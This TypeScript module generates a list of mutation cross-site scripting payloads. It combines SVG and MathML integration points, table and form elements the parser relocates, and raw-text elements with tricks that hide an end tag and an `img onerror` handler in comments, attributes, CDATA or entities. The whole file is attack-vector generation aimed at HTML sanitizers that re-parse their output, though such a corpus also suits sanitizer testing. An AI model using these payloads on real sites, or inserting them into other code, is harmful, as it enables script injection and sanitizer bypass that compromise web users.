import type { Vector } from './payload';

/** Elements whose content is text in HTML, and markup in SVG or MathML. */
const rawElements = [
  'style',
  'title',
  'textarea',
  'xmp',
  'noembed',
  'noframes',
  'noscript',
  'iframe',
];

/** Where a parser goes from foreign content back to HTML, as opening and closing tags. */
const integrationPoints = [
  ['<svg><title>', '</title></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi>', '</mi></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<svg>', '</svg>'],
  ['<math>', '</math>'],
] as const;

/** Elements that a parser moves elsewhere, so the markup that it writes is not what it read. */
const movers = [
  ['<table>', '</table>'],
  ['<table><caption>', '</caption></table>'],
  ['<select><option>', '</option></select>'],
  ['<p><table>', '</table></p>'],
  ['<form><div></form><form>', '</form></div>'],
  ['<a><b><a>', '</a></b></a>'],
  ['', ''],
] as const;

/** Ways to hide an end tag and an image with a handler from the first parse. */
const hide = [
  (name: string) => `<${name}><!--</${name}><img src=x onerror={js}>--></${name}>`,
  (name: string) => `<${name}><p title="</${name}><img src=x onerror={js}>"></${name}>`,
  (name: string) => `<${name}><![CDATA[</${name}><img src=x onerror={js}>]]></${name}>`,
  (name: string) => `<${name}>&lt;/${name}&gt;&lt;img src=x onerror={js}&gt;</${name}>`,
  (name: string) => `<mglyph><${name}></mglyph><img title="</${name}><img src=x onerror={js}>">`,
] as const;

/** Every raw text element with an end tag in an attribute or a comment, in HTML. */
const rawTexts: readonly Vector[] = [...rawElements, 'plaintext', 'script', 'template'].flatMap(
  (name) =>
    hide.slice(0, 4).map(
      (write): Vector => ({
        attack: 'raw text element',
        kind: 'markup',
        text: write(name),
      }),
    ),
);

/** The same within foreign content and elements that are moved: a second parse reads them differently. */
const mutations: readonly Vector[] = integrationPoints.flatMap(([open, close], at) =>
  movers.flatMap(([before, after], mover) =>
    rawElements.slice(0, 7).map((name, index): Vector => {
      const write = hide[(at + mover + index) % hide.length] ?? hide[0];
      return {
        attack: 'mutation',
        kind: 'markup',
        text: `${open}${before}${write(name)}${after}${close}`,
      };
    }),
  ),
);

/** Attacks on programs that write parsed markup and parse it again, composed of their parts. */
export const mutationVectors: readonly Vector[] = [...rawTexts, ...mutations];
